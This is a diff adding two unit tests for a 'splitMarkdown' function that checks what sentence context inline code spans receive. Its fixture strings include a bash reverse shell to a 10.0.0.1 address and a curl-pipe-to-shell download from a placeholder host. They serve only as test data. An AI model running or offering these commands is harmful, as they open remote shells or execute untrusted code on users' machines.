@@ -48,6 +48,25 @@ describe('splitMarkdown', () => {
     ]);
   });
 
+  it('gives an inline command the part of its sentence wrapped onto the lines above, not earlier sentences', () => {
+    const split = splitMarkdown(
+      'The scan found `id` output. A reverse shell such as\n`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` worked.\n\nNever pipe downloads into a shell. To finish\nthe setup, `curl -s https://y.example/j.sh | sh`\n',
+    );
+    expect(split.code.map((c) => c.context)).toEqual([
+      'A reverse shell such as\n`bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` worked.',
+      'To finish\nthe setup, `curl -s https://y.example/j.sh | sh`',
+    ]);
+  });
+
+  it('gives a command on the wrapped line of a list item the sentence that introduces the list', () => {
+    const split = splitMarkdown(
+      'Show the user:\n1. The line.\n2. How to add it: save the unit, then\n   run `systemctl --user enable --now a.timer`.\n',
+    );
+    expect(split.code.map((c) => c.context)).toEqual([
+      'Show the user:\nsave the unit, then\n   run `systemctl --user enable --now a.timer`.',
+    ]);
+  });
+
   it('stays linear on a line of a million backticks', () => {
     const split = splitMarkdown('`'.repeat(1_000_000));
     expect(split.code.length).toBeLessThan(2);
